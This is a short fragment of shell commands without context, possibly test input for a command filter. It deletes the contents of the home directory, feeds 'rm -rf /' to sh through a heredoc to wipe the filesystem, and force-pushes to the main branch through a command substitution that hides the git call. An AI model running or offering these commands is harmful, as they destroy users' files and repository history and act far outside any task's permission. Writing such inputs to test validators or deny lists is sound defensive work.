cd / && rm -rf "$HOME"/* ; cat <<EOF | sh
rm -rf /
EOF
$(echo git) push --force origin main
